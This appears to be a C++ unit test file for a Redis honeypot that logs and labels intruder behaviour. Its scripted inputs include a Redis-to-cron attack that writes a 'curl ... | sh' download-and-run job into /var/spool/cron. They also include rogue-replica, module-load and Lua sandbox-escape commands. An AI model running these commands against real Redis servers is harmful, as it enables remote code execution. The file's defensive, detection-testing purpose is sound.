// The service over scripted sessions: what is answered, told and kept.
#include "service/redis/redis.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "service/redis/conversation.h"
#include "service/redis/limits.h"
#include "session/testing.h"

namespace decnet::service::redis {
namespace {

using session::Script;
using session::ScriptedSession;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

Script plain(std::string sent) {
  Script script{.service = "redis", .script = {std::move(sent)}, .port = 6379};
  script.options = {{"auth", "open"}, {"bait", "none"}};
  return script;
}

std::unique_ptr<ScriptedSession> run(Script script) {
  return session::run_service(descriptor(), std::move(script));
}

std::string bulk(const std::string& text) {
  return "$" + std::to_string(text.size()) + "\r\n" + text + "\r\n";
}

TEST(Redis, AnswersAndEnds) {
  const auto done = run(plain("PING\r\nDBSIZE\r\nQUIT\r\nPING\r\n"));
  EXPECT_EQ(done->written(), "+PONG\r\n:0\r\n+OK\r\n");
  EXPECT_EQ(done->end_reason(), "quit");
  EXPECT_EQ(done->event_lines(),
            "command command=PING\ncommand command=DBSIZE\ncommand command=QUIT\n");
}

TEST(Redis, CutsOffAfterAProtocolError) {
  const auto done = run(plain("*1\r\n:3\r\nPING\r\n"));
  EXPECT_EQ(done->written(), "-ERR Protocol error: expected '$', got ':'\r\n");
  EXPECT_EQ(done->end_reason(), "protocol_error");
  EXPECT_EQ(done->event_lines(), "detection_probe name=redis_protocol_error\n");
}

TEST(Redis, KnowsGarbageThatIsSentEverywhere) {
  EXPECT_THAT(run(plain("\xff\xfe\xff\xfe\xff\xfe\xff\xfe"))->event_lines(),
              HasSubstr("detection_probe name=same_garbage_everywhere"));
}

TEST(Redis, TakesThePasswordsThatThePolicyOpens) {
  Script script = plain("AUTH 9f0c2e\r\nPING\r\nAUTH backup123\r\nPING\r\n");
  script.options["auth"] = "password";
  const auto done = run(std::move(script));
  EXPECT_EQ(done->written(),
            "-WRONGPASS invalid username-password pair or user is disabled.\r\n"
            "-NOAUTH Authentication required.\r\n+OK\r\n+PONG\r\n");
  EXPECT_THAT(done->event_lines(),
              HasSubstr("login.attempt principal=default secret_kind=plaintext secret_b64=OWYwYzJl "
                        "secret_printable=9f0c2e outcome=refused method=auth\n"));
  EXPECT_THAT(done->event_lines(), HasSubstr("secret_printable=backup123 outcome=accepted"));
  EXPECT_THAT(done->event_lines(), HasSubstr("command command=AUTH\n"));
}

TEST(Redis, TellsOfPasswordsThatNobodyAskedFor) {
  const auto done = run(plain("AUTH secret\r\nHELLO 3 AUTH admin hunter2\r\n"));
  EXPECT_THAT(done->written(), StartsWith("-ERR AUTH <password> called without any password"));
  EXPECT_THAT(done->event_lines(), HasSubstr("secret_printable=secret outcome=refused"));
  EXPECT_THAT(done->event_lines(), HasSubstr("principal=admin"));
  EXPECT_THAT(done->event_lines(), HasSubstr("command command=HELLO 3 AUTH\n"));
}

TEST(Redis, TakesTheConfiguredPassword) {
  Script script = plain("AUTH foobared\r\nCONFIG GET requirepass\r\n");
  script.options["auth"] = "password";
  script.options["requirepass"] = "foobared";
  EXPECT_THAT(run(std::move(script))->written(),
              HasSubstr("+OK\r\n*2\r\n$11\r\nrequirepass\r\n$8\r\nfoobared"));
}

TEST(Redis, CapturesACronJobThatIsWrittenByWayOfTheDatabase) {
  const std::string job = "\n\n*/1 * * * * root curl http://198.51.100.9/x.sh|sh\n\n";
  Script script = plain("FLUSHALL\r\n*3\r\n$3\r\nSET\r\n" + bulk("x") + bulk(job) +
                        "CONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE\r\n");
  script.options["protected_configs"] = "yes";
  const auto done = run(std::move(script));
  EXPECT_EQ(done->written(), "+OK\r\n+OK\r\n+OK\r\n+OK\r\n-ERR\r\n");
  const std::string events = done->event_lines();
  EXPECT_THAT(events, HasSubstr("request verb=SET attack=payload_cron target=x\n"));
  EXPECT_THAT(
      events,
      HasSubstr("request verb=CONFIG SET dir attack=write_folder target=/var/spool/cron\n"));
  EXPECT_THAT(events,
              HasSubstr("request verb=CONFIG SET dbfilename attack=write_file target=root\n"));
  EXPECT_THAT(events, HasSubstr("name=root path=/var/spool/cron/root"));
  ASSERT_EQ(done->captured().size(), 2U);  // The value, and the file around it.
  EXPECT_EQ(done->captured()[0], job);
  EXPECT_THAT(done->captured()[1], StartsWith("REDIS0010"));
  EXPECT_THAT(done->captured()[1], HasSubstr("curl http://198.51.100.9/x.sh"));
}

TEST(Redis, RefusesTheSameWhereConfigsAreProtected) {
  const auto done = run(plain("CONFIG SET dir /var/spool/cron\r\n"));
  EXPECT_EQ(done->written(),
            "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected "
            "config\r\n");
  EXPECT_THAT(done->event_lines(), HasSubstr("attack=write_folder"));
}

TEST(Redis, NamesTheStepsOfKnownAttacks) {
  const auto done =
      run(plain("SLAVEOF 198.51.100.9 6379\r\nMODULE LOAD /tmp/exp.so\r\nsystem.exec id\r\n"
                "EVAL \"return 1\" 0\r\nEVAL \"return package.loadlib('x','luaopen_io')\" 0\r\n"
                "SLAVEOF NO ONE\r\n"));
  const std::string events = done->event_lines();
  EXPECT_THAT(events, HasSubstr("verb=SLAVEOF attack=replicaof target=198.51.100.9:6379\n"));
  EXPECT_THAT(events, HasSubstr("verb=MODULE LOAD attack=module_load target=/tmp/exp.so\n"));
  EXPECT_THAT(events, HasSubstr("verb=system.exec attack=backdoor target=id\n"));
  EXPECT_THAT(events, HasSubstr("verb=EVAL attack=script target=return 1\n"));
  EXPECT_THAT(events, HasSubstr("verb=EVAL attack=sandbox_escape"));
  EXPECT_THAT(events, Not(HasSubstr("target=NO")));
}

TEST(Redis, EndsAWaitWhenItsTimeIsOver) {
  Script script = plain("BLPOP nothing 3\r\n");
  script.end = net::ScriptEnd::stays_silent;
  script.limits.idle_max = std::chrono::seconds{30};
  EXPECT_EQ(run(std::move(script))->written(), "*-1\r\n");
}

// A deadline beyond what a TimePoint can hold was one that is over at once, for ever again.
TEST(Redis, WaitsForThousandsOfYearsLikeForEver) {
  for (const char* wait :
       {"BLPOP nothing 9000000000000000\r\n", "BLPOP nothing 9000000000000\r\n",
        "WAIT 1 9223372036854775807\r\n", "CLIENT PAUSE 9223372036854775807\r\nPING\r\n",
        "XREAD BLOCK 9223372036854775807 STREAMS s $\r\n"}) {
    Script script = plain(wait);
    script.end = net::ScriptEnd::stays_silent;
    script.limits.idle_max = std::chrono::seconds{30};
    EXPECT_THAT(run(std::move(script))->written(), Not(HasSubstr("PONG"))) << wait;
  }
}

TEST(Redis, SendsItsKeysToWhoSynchronises) {
  Script script = plain("SET a bait\r\nREPLCONF capa eof\r\nSYNC\r\n");
  script.end = net::ScriptEnd::stays_silent;
  script.limits.idle_max = std::chrono::seconds{30};
  const std::string written = run(std::move(script))->written();
  EXPECT_THAT(written, StartsWith("+OK\r\n+OK\r\n\n\n\n\n$EOF:"));
  const std::string mark = written.substr(written.find("$EOF:") + 5, 40);
  EXPECT_THAT(written, HasSubstr(mark + "\r\nREDIS0010"));
  EXPECT_EQ(written.substr(written.size() - 40), mark);
}

TEST(Redis, EndsAnIdleSessionAsItsSettingSays) {
  Script script = plain("CONFIG SET timeout 5\r\n");
  script.end = net::ScriptEnd::stays_silent;
  ScriptedSession session(script);
  const auto service = descriptor().create(session.place());
  const TimePoint before = session.fake_clock().now();
  session.run(*service);
  EXPECT_EQ(session.fake_clock().now() - before, Duration(std::chrono::seconds{5}));
}

TEST(Redis, CutsOffWhoSendsOnWhileItWaits) {
  Script script = plain("BLPOP nothing 0\r\n" + std::string(kQueryBytesMax + 65'536, 'x'));
  const auto done = run(std::move(script));
  EXPECT_EQ(done->written(), "");
  EXPECT_EQ(done->end_reason(), "query_limit");
}

TEST(Redis, BoundsWhatACommandEventShows) {
  const auto done = run(plain("*2\r\n$4\r\nECHO\r\n" + bulk(std::string(100'000, '\x01'))));
  ASSERT_EQ(done->events().size(), 1U);
  EXPECT_EQ(done->events()[0].fields[0].value.size(), kCommandTextBytesMax);
  EXPECT_EQ(command_text({"SET", "a b", "x\n"}), "SET \"a b\" \"x\\n\"");
}

TEST(Redis, AllSessionsOfADeckySeeTheSameKeys) {
  ScriptedSession first(plain("SET left behind\r\n"));
  const auto service = descriptor().create(first.place());
  first.run(*service);
  ScriptedSession second(plain("GET left\r\n"));
  second.run(*service);
  EXPECT_EQ(second.written(), "$6\r\nbehind\r\n");
}

TEST(Redis, RemembersThroughARestart) {
  ScriptedSession first(plain(
      "SET left behind\r\nLPUSH list a b\r\nEXPIRE list 1000\r\n"
      "CONFIG SET maxmemory 123456789\r\nACL SETUSER eve on >pw ~* +@all\r\nINFO server\r\n"));
  const auto service = descriptor().create(first.place());
  EXPECT_EQ(service->save_state(), "");
  first.run(*service);
  const std::string state = service->save_state();
  EXPECT_LE(state.size(), session::kServiceStateBytesMax);
  const auto again = descriptor().create(first.place());
  again->load_state(state);
  ScriptedSession second(
      plain("GET left\r\nLRANGE list 0 -1\r\nTTL list\r\nCONFIG GET maxmemory\r\n"
            "AUTH eve pw\r\nINFO server\r\n"));
  second.run(*again);
  EXPECT_THAT(
      second.written(),
      StartsWith("$6\r\nbehind\r\n*2\r\n$1\r\nb\r\n$1\r\na\r\n:1000\r\n*2\r\n$9\r\nmaxmemory\r\n"
                 "$9\r\n123456789\r\n+OK\r\n"));
  const auto run_id = [](const std::string& text) { return text.substr(text.find("run_id:"), 47); };
  EXPECT_EQ(run_id(first.written()), run_id(second.written()));
}

TEST(Redis, SavesNoMoreThanItMay) {
  std::string sent;
  for (int n = 0; n < 4000; ++n)
    sent += "SET key:" + std::to_string(n) + " " + std::string(100, 'x') + "\r\n";
  ScriptedSession session(plain(sent));
  const auto service = descriptor().create(session.place());
  session.run(*service);
  const std::string state = service->save_state();
  EXPECT_LE(state.size(), session::kServiceStateBytesMax);
  EXPECT_GT(state.size(), kStateBytesMax / 2);
}

TEST(Redis, PlantsBaitThatIsTheSameForOneDeckyOnly) {
  const auto keys_of = [](std::uint64_t seed) {
    Script script = plain("KEYS *\r\n");
    script.options.erase("bait");
    script.persona.seed = seed;
    return run(std::move(script))->written();
  };
  const auto count = [](const std::string& text) {
    return std::count(text.begin(), text.end(), '$');
  };
  EXPECT_GT(count(keys_of(1)), 10);
  EXPECT_EQ(keys_of(1).size(), keys_of(1).size());
  EXPECT_NE(keys_of(1).size(), keys_of(2).size());
}

TEST(Redis, BaitNamesALoginThatWorksElsewhere) {
  Script script = plain(
      "EVAL \"return redis.call('hmget', redis.call('keys', '*:config')[1], 'db.user', "
      "'db.password')\" 0\r\n");
  script.options.erase("bait");
  EXPECT_EQ(run(std::move(script))->written(), "*2\r\n$6\r\nbackup\r\n$9\r\nbackup123\r\n");
}

}  // namespace
}  // namespace decnet::service::redis
